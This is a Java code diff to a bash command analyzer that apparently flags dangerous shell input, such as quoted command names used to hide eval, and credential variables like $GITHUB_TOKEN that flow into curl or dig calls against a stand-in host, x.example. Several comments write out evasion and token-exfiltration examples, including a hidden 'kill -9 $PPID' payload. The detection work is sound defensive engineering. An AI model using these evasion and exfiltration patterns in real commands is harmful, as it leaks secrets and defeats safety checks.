@@ -646,7 +646,29 @@ final class BashWalker {
         if (!t.contains("IFS")) {
             return false;
         }
-        return READ_REDEFINED.matcher(t).find() || IFS_FOR_READ.matcher(t).replaceAll(" read").contains("IFS");
+        String named = unquotedNames(t);
+        return READ_REDEFINED.matcher(t).find() || IFS_FOR_READ.matcher(named).replaceAll(" read").contains("IFS");
+    }
+
+    /**
+     * A word of name characters spelled with quotes or backslashes and followed by a blank
+     * ({@code "eval"}, {@code 'eval'}, {@code e\val}), where bash looks it up without them.
+     */
+    private static final Pattern QUOTED_NAME = Pattern.compile(
+            "(?<=^|[\\s;&|(])(?=[A-Za-z_'\"\\\\]*['\"\\\\])(?:[A-Za-z_]|\\\\[A-Za-z_]|'[A-Za-z_]*'|\"[A-Za-z_]*\")+(?=[ \\t])");
+
+    /**
+     * {@code t} with each {@link #QUOTED_NAME} written as bash reads it, the rest as written.
+     * WHY (left37): the text view of {@link #mentionsIfs} found the payload of
+     * {@code "eval" 'IFS= read -r p <<< $PPID; kill -9 $p'} behind a quoted name, not at a
+     * payload's start, so IFS counted as touched and {@code $p} stayed unread; only the name's
+     * quoting is removed, never a value's ({@code IFS=x' 'read} still sets IFS for good).
+     */
+    private static String unquotedNames(String t) {
+        if (t.indexOf('\'') < 0 && t.indexOf('"') < 0 && t.indexOf('\\') < 0) {
+            return t;
+        }
+        return QUOTED_NAME.matcher(t).replaceAll(m -> java.util.regex.Matcher.quoteReplacement(unquoted(m.group())));
     }
 
     BashWalker(String text) {
@@ -3524,6 +3546,52 @@ final class BashWalker {
         return any ? List.copyOf(out) : null;
     }
 
+    /** A credential-named variable as a whole parameter, plain or braced ({@code $GITHUB_TOKEN}, {@code ${NPM_TOKEN}}). */
+    private static final Pattern SECRET_PARAMETER = Pattern.compile(
+            "\\$(?:(?<bare>" + SecretNames.VARIABLE + ")(?![A-Za-z0-9_])|\\{(?<braced>" + SecretNames.VARIABLE + ")})");
+    /** Stands for a {@link #SECRET_PARAMETER} while {@link #arrayElements} reads the words around it. */
+    private static final char SECRET_MARK = '\uE000';
+
+    /**
+     * The elements of an array value ({@code a=(W…)}) whose words are literal but for
+     * credential-named variables, each such variable as its braced spelling
+     * ({@code (-H "Authorization: Bearer ${GITHUB_TOKEN}")}); null when none is there or another
+     * word is not literal. WHY (left37): {@link #spelledElements} takes the variable only as a
+     * whole element, so a header built around it in an array reached {@code curl "${A[@]}"} unread.
+     */
+    private static List<Word> secretElements(String raw) {
+        if (raw.indexOf(SECRET_MARK) >= 0) {
+            return null;
+        }
+        List<String> found = new ArrayList<>();
+        java.util.regex.Matcher m = SECRET_PARAMETER.matcher(raw);
+        StringBuilder marked = new StringBuilder();
+        while (m.find()) {
+            found.add(m.group("bare") != null ? m.group("bare") : m.group("braced"));
+            m.appendReplacement(marked, String.valueOf(SECRET_MARK));
+        }
+        m.appendTail(marked);
+        List<Word> words = found.isEmpty() ? null : arrayElements(marked.toString());
+        if (words == null) {
+            return null;
+        }
+        java.util.Iterator<String> next = found.iterator();
+        List<Word> out = new ArrayList<>();
+        for (Word w : words) {
+            StringBuilder t = new StringBuilder();
+            for (char ch : w.text().toCharArray()) {
+                if (ch == SECRET_MARK) {
+                    // the marks come back in text order, as they were found
+                    t.append("${").append(next.hasNext() ? next.next() : "").append('}');
+                } else {
+                    t.append(ch);
+                }
+            }
+            out.add(Word.literal(t.toString()));
+        }
+        return List.copyOf(out);
+    }
+
     /** An assignment's word read with {@code values} for the names without a known value; null when it is not literal then. */
     private String readWith(String raw, Vars vars, Map<String, String> values) {
         Word w = BashWords.decode(raw, 0, Map.of(), n -> vars.get(n) != null ? vars.get(n) : values.get(n), vars::target,
@@ -3606,6 +3674,14 @@ final class BashWalker {
         }
         List<Word> spelled = elements == null && !append && !forget && value.startsWith("(") && !associative.contains(name)
                 ? spelledElements(rawValue) : null;
+        List<Word> secret = spelled == null && elements == null && (!append || before != null) && !forget
+                && value.startsWith("(") && !associative.contains(name) ? secretElements(a.raw()) : null;
+        if (secret != null) {
+            // `A=(-H "Authorization: Bearer $GITHUB_TOKEN")`, `A+=(…)` of a known array (left37)
+            List<Word> all = new ArrayList<>(append ? before : List.of());
+            all.addAll(secret);
+            spelled = List.copyOf(all);
+        }
         if (spelled != null) {
             // `t=("$GITHUB_TOKEN"); dig "${t[0]}.x.example"` (rt34b): the elements read by their
             // spelling are maybe elements (see #spelledParameter), `$t` is the first
@@ -3634,7 +3710,15 @@ final class BashWalker {
             String held = append ? null : LoopSteps.valueText(rawValue);
             // `d=$((d * 3))` of a d holding a range's number: computed from the range (see #heldAfter)
             String composed = held == null ? null : heldAfter(name + " = (" + held + ")", vars).get(name);
+            String old = known.containsKey(name) ? known.get(name) : vars.maybe.get(name);
             known.remove(name);
+            String grown = append && !a.literal() && old != null && !value.startsWith("(") && !integers.contains(name)
+                    ? withSecretSpellings(rawValue, vars) : null;
+            if (grown != null) {
+                // `U=https://x.example/?t=; U+="$GITHUB_TOKEN"` (left37): the held value grows by
+                // the credential's spelling, as the one assignment `U=…$GITHUB_TOKEN` holds it
+                vars.maybe.put(name, old + grown);
+            }
             if (held != null && RANGE_READ.matcher(held).find()) {
                 vars.heldRanges.put(name, held); // `d=$RANDOM`: one number of the range (see #lowRangeReadings)
             } else if (composed != null) {
@@ -3987,7 +4071,7 @@ final class BashWalker {
      * them, over-approximating the split) as a maybe value, evaluated where bash evaluates values
      * ({@code echo $((x))}); never resolved into a word.
      */
-    private static void readHereString(Draft d, Vars vars) {
+    private void readHereString(Draft d, Vars vars) {
         for (Redirect r : d.redirects) {
             String spelled = r.op().equals("<<<") && !r.target().literal() ? spelledParameter(r.target().raw()) : null;
             if (spelled != null) {
@@ -3996,6 +4080,8 @@ final class BashWalker {
                 ShellEvaluation.nameOperands(d.argv).stream()
                         .filter(n -> n.literal() && dev.shellwarden.grammar.bash.Names.isIdentifier(n.text()))
                         .forEach(n -> vars.maybe.put(n.text(), spelled));
+            } else if (r.op().equals("<<<") && !r.target().literal()) {
+                readMixedHereString(d, r.target().raw(), vars);
             }
             if (r.op().equals("<<<") && r.target().literal()) {
                 String line = r.target().text().lines().findFirst().orElse("");
@@ -4009,6 +4095,51 @@ final class BashWalker {
                     vars.maybe.put(names.get(k).text(), value);
                 }
             }
+        }
+    }
+
+    /**
+     * {@code read} of a here-string mixing literal text with parameters: a name whose field is a
+     * {@link #SPELLED_PARAMETER} holds its spelling ({@code IFS=: read -r a p <<< "x:$PPID"}), a
+     * single name the whole line with credential-named variables spelled
+     * ({@code read -r U <<< "https://x.example/?t=$GITHUB_TOKEN"}, see #withSecretSpellings).
+     * WHY (left37): both left the name unread, so {@code kill -9 $p} and {@code curl "$U"} were
+     * judged without the parameter; maybe values only add findings.
+     */
+    private void readMixedHereString(Draft d, String raw, Vars vars) {
+        List<String> names = ShellEvaluation.nameOperands(d.argv).stream()
+                .filter(n -> n.literal() && dev.shellwarden.grammar.bash.Names.isIdentifier(n.text())).map(Word::text).toList();
+        if (names.isEmpty()) {
+            return;
+        }
+        Word ifs = d.assignments.stream().filter(a -> a.text().startsWith("IFS=")).findFirst().orElse(null);
+        String separators = ifs == null ? " \t\n" : ifs.literal() ? ifs.text().substring(4) : null;
+        String body = raw.length() > 1 && raw.startsWith("\"") && raw.endsWith("\"") ? raw.substring(1, raw.length() - 1) : raw;
+        if (names.size() > 1 && separators != null && !separators.isEmpty()
+                && body.chars().noneMatch(ch -> "\"'\\`".indexOf(ch) >= 0)) {
+            // a field per name at any separator, the last takes the rest (over-approximating IFS's rules)
+            List<String> fields = new ArrayList<>();
+            int from = 0;
+            for (int i = 0; i < body.length() && fields.size() < names.size() - 1; i++) {
+                if (separators.indexOf(body.charAt(i)) >= 0) {
+                    fields.add(body.substring(from, i));
+                    from = i + 1;
+                }
+            }
+            fields.add(body.substring(from));
+            for (int k = 0; k < fields.size(); k++) {
+                String field = fields.get(k);
+                String spelled = spelledParameter(field);
+                String value = spelled != null ? spelled : withSecretSpellings("\"" + field + "\"", vars);
+                if (value != null) {
+                    vars.maybe.put(names.get(k), value);
+                }
+            }
+            return;
+        }
+        String whole = withSecretSpellings(raw, vars);
+        if (whole != null) {
+            names.forEach(n -> vars.maybe.put(n, whole));
         }
     }
 
